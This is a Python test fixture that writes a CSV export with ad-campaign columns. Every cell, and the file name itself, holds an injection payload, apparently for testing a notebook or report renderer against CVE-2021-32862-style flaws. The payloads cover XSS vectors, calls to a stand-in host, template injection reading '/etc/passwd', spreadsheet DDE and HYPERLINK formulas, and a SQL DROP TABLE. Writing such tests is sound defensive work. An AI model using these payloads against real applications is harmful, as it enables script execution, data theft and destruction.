"""Texts that try to run, to fetch or to become part of the page, as data may hold them."""

import csv
from pathlib import Path

OUTSIDE = "http://127.0.0.1:9/pwned"
RUN = "window.pwned=1;alert(1)"

# What lay behind nbconvert's CVE-2021-32862 and later, OWASP's lists, and Markdown, LaTeX, Mermaid,
# Jinja and formulas.
PAYLOADS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg/onload={RUN}>",
    f"<svg><script href='data:text/javascript,{RUN}' /></svg>",
    f'"><b id="pwned" onmouseover="{RUN}">bold</b>',
    f"' autofocus onfocus='{RUN}' x='",
    f"</style></title></textarea></script><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe src='{OUTSIDE}'></iframe>",
    f"<link rel=stylesheet href='{OUTSIDE}.css'>",
    f"<base href='{OUTSIDE}/'>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<form id=pwned action='{OUTSIDE}'><input name=pwned></form>",
    f"<div class=pwned style='background:url({OUTSIDE})'>styled</div>",
    "<!-- nothing after this is seen",
    "<plaintext>",
    "&lt;b&gt;already&lt;/b&gt; &amp;amp;",
    f"[a link](javascript:{RUN})",
    f"![a picture]({OUTSIDE}.png)",
    "# a heading",
    "**bold** _it_ `code` | a | b |",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    "$$\\frac{1}{2}$$",
    "it cost $5 and then $6",
    "\\(x^2\\) \\[y\\]",
    f'$\\unicode{{<img src=x onerror="{RUN}">}}$',
    f'```mermaid\\ngraph TD; A["<img src=x onerror={RUN}>"]\\n```',
    f"%%{{init: {{'theme': '{RUN}'}}}}%%",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
    "${7*7} #{7*7}",
    '=HYPERLINK("http://127.0.0.1:9/pwned","click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\u202egnp.exe",
    "'; DROP TABLE log; --",
]
NAME = "<img src=x onerror=alert(1)> $x^2$ =1+1.csv"


def write_export(folder: Path) -> Path:
    """Write a table whose every text is a payload, in a file whose name is one."""
    path = folder / NAME
    with path.open("w", newline="", encoding="utf-8") as file:
        rows = csv.writer(file)
        rows.writerow(["campaign", "ad_group", "ad", "placement", "impressions", "reach", "spend"])
        for place, text in enumerate(PAYLOADS):
            rows.writerow([text, text, text, text, 1000 - place, 500, 1.5])
    return path
